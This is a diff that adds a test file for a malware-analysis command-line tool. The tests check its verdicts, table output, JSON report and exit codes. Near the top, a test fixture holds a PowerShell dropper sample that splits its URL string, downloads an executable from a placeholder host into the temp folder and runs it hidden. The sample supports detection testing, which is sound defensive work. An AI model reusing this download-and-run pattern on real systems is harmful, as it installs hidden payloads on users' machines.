@@ -1,0 +1,82 @@
+// `assay analyze file` from the paths to the table, the full report, the JSON and the exit code.
+import assert from 'node:assert/strict'
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { Writable } from 'node:stream'
+import { after, before, describe, it } from 'node:test'
+import { commands } from '../src/commands/registry.ts'
+import { runCommandLine } from '../src/run.ts'
+
+const DROPPER = `$p = "$env:TEMP\\update.exe"
+(New-Object Net.WebClient).DownloadFile(('ht' + 'tp://files.example.invalid/a.exe'), $p)
+Start-Process $p -WindowStyle Hidden
+`
+
+async function analyze(...words: readonly string[]): Promise<{ readonly code: number; readonly text: string }> {
+  let text = ''
+  const out = new Writable({
+    write: (chunk, _encoding, done) => {
+      text += String(chunk)
+      done()
+    },
+  })
+  const code = await runCommandLine(commands, ['analyze', 'file', ...words], { out, err: out })
+  return { code, text }
+}
+
+describe('assay analyze file', { timeout: 120_000 }, () => {
+  const folder = mkdtempSync(join(tmpdir(), 'analyze-'))
+  const dropper = join(folder, 'setup.ps1')
+  before(() => {
+    writeFileSync(dropper, DROPPER)
+    writeFileSync(join(folder, 'notes.txt'), 'Buy milk, call home.\n')
+  })
+  after(() => rmSync(folder, { recursive: true }))
+
+  it('tells what a script did when an emulator ran it', async () => {
+    const { code, text } = await analyze(dropper)
+    assert.equal(code, 2)
+    assert.match(text, /^MALICIOUS/)
+    assert.match(text, /sha256 {2}[0-9a-f]{64}/)
+    assert.match(text, /trace_downloads_and_runs \(seen when it ran\)/)
+    assert.match(text, /When it ran \(PowerShell .* emulated\)/)
+    assert.match(text, /http +GET http:\/\/files\.example\.invalid\/a\.exe/)
+  })
+
+  it('looks only, where it was told so', async () => {
+    const { text } = await analyze('--static-only', dropper)
+    assert.doesNotMatch(text, /When it ran|seen when it ran/)
+    assert.match(text, /script_downloads_and_runs/)
+  })
+
+  it('shows a folder as a table with reasons in words, and the worst decides the exit code', async () => {
+    const { code, text } = await analyze(folder)
+    assert.equal(code, 2)
+    assert.match(text, /malicious +\d+ +script +\S*setup\.ps1 +Something was downloaded and run/)
+    assert.match(text, /clean +0 +text +\S*notes\.txt\n/)
+    assert.match(text, /1 malicious, 0 suspicious, 0 unknown, 1 clean/)
+  })
+
+  it('prints one line of JSON a file, with the stages and the results of the service', async () => {
+    const { text } = await analyze('--json', dropper)
+    const line = JSON.parse(text.split('\n').find((one) => one.startsWith('{')) ?? '') as {
+      readonly verdict: string
+      readonly pipeline_stages: readonly { readonly name: string; readonly status: string }[]
+      readonly results: { readonly schema_version: string; readonly behavior: object }
+    }
+    assert.equal(line.verdict, 'malicious')
+    assert.deepEqual(
+      line.pipeline_stages.map(({ name, status }) => `${name} ${status}`),
+      ['static complete', 'dynamic complete'],
+    )
+    assert.equal(line.results.schema_version, '1.0')
+    assert.ok('runs' in line.results.behavior)
+  })
+
+  it('refuses options that exclude each other', async () => {
+    const { code, text } = await analyze('--static-only', '--sandbox', dropper)
+    assert.equal(code, 1)
+    assert.match(text, /exclude each other/)
+  })
+})
